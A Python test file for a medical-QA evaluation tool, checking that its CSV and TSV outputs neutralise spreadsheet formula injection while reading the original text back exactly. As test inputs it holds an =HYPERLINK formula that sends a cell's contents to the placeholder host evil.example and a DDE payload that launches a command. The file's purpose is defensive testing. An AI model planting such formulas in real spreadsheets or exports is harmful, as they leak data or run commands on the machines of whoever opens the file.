"""Issue 49: no CSV cell xlingmed writes begins with a formula character (CSV injection, OWASP), and xlingmed reads
its own CSVs back as the text was: a run whose replies, judge reasoning and questions begin with ``=HYPERLINK(``,
``+``, ``-``, ``@`` or an apostrophe, through its task table, scores, report statistics and annotators' answers."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from fault_server import FaultServer, Reply, ok
from typer.testing import CliRunner

from xlingmed.cells import FORMULA_STARTS, restore, safe
from xlingmed.cli import app
from xlingmed.config import make_config
from xlingmed.report import build_report
from xlingmed.report.load import load_run
from xlingmed.runner import evaluate

PAYLOAD = '=HYPERLINK("http://evil.example/?"&C2,"see source")'


def _reply(prompt: str, attempt: int) -> Reply:
    if "Similarity" in prompt or "similarity" in prompt:  # the rubric judge, its reasoning opening with a formula
        return ok("+cmd|' /C calc'!A0\nSimilarity: 4 - close\nRelevance: 4 - ok\nFactuality: 3 - ok\nSafety: 5 - ok")
    return ok(PAYLOAD)


def _formula_cells(folder: Path) -> list[str]:
    """``file: cell`` for every cell of every CSV under ``folder`` that a spreadsheet would run (numbers aside)."""
    found = []
    for path in sorted(folder.rglob("*.csv")):
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell.startswith(FORMULA_STARTS):
                        try:
                            float(cell)  # -0.25 is a number, not a formula
                        except ValueError:
                            found.append(f"{path.name}: {cell[:40]}")
    return found


def test_no_csv_cell_is_a_formula_and_every_text_reads_back(tmp_path: Path) -> None:
    rows = [{"id": f"q{i}", "lang": lang, "question": f"-{i} @dose? '{lang}", "reference": f"=SUM({i})"}
            for i in range(4) for lang in ("en", "es")]  # fmt: skip
    data = tmp_path / "qa.json"
    data.write_text(json.dumps(rows), encoding="utf-8")
    run = tmp_path / "run"
    with FaultServer(_reply) as server:
        evaluate(make_config(benchmark=f"qa:{data}", languages="en,es", tasks="rubric", model="openai/m",
                             base_url=server.url, cache=tmp_path / "c.sqlite", out=run))  # fmt: skip
    build_report([run], n_resamples=50)
    result = CliRunner().invoke(app, ["annotate", "sample", str(run), "--out", str(tmp_path / "set"),
                                      "--fraction", "1"])  # fmt: skip
    assert result.exit_code == 0, result.output
    assert CliRunner().invoke(app, ["annotate", "export", str(tmp_path / "set")]).exit_code == 0
    assert _formula_cells(run) == [] and _formula_cells(tmp_path / "set") == []
    # the spreadsheet sees a quoted text; xlingmed reads the text back as the model wrote it
    table = (run / "rubric.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in table
    loaded = load_run(run).tables["rubric"]
    assert set(loaded["response"]) == {PAYLOAD}
    assert set(loaded["question"].str[:1]) == {"-"}
    page = (run / "report" / "index.html").read_text(encoding="utf-8")
    assert "=HYPERLINK(" in page and "'=HYPERLINK(" not in page  # the explorer shows the reply as written


def test_cells_are_quoted_and_restored_exactly() -> None:
    for text in (PAYLOAD, "-", "+1", "@x", "\tx", "\rx", "'", "''x", "plain", "", "=", "‐unicode hyphen"):
        assert restore(safe(text)) == text
    assert safe(-0.5) == -0.5 and safe(3) == 3 and safe(None) is None  # numbers are never touched
    assert safe("-0.5") == "'-0.5"  # text that looks like a number is still text


def test_a_benchmark_file_construct_writes_keeps_its_text_for_the_loaders(tmp_path: Path) -> None:
    """A translated set written by ``construct`` is input data, read by xlingmed's loaders and other tools: its
    text stays as it is (the quoting is for tables people open)."""
    from xlingmed.benchmarks.tables import read_table
    from xlingmed.construct.files import write_benchmark_file

    rows = [{"id": "q1", "lang": "es", "question": "-¿Dosis? =SUM(1)", "reference": "'citado'"}]
    write_benchmark_file(tmp_path / "set.csv", rows)
    table = read_table(tmp_path / "set.csv")
    assert table.to_dict(orient="records") == rows


def test_tsv_tables_printed_for_spreadsheets_quote_formulas_but_not_numbers() -> None:
    """``--format tsv`` says "for cut and spreadsheets": a text cell there is neutralised as in the CSVs."""
    from rich.table import Table

    from xlingmed.cli.tables import as_json, as_tsv

    table = Table("what", "value", title="t")
    for what, value in (('=HYPERLINK("http://x/?"&C2,"see")', "-0.05"), ("@SUM(A1)", "+3.5%"),
                        ("-x then text", "1,204"), ("'quoted", "-"), ("plain", "–")):  # fmt: skip
        table.add_row(what, value)
    lines = as_tsv(table).split("\n")
    assert lines[2:] == [
        "'=HYPERLINK(\"http://x/?\"&C2,\"see\")\t-0.05", "'@SUM(A1)\t+3.5%", "'-x then text\t1,204",
        "''quoted\t-", "plain\t–",
    ]  # fmt: skip
    assert '"=HYPERLINK' in as_json(table)  # JSON keeps the text raw
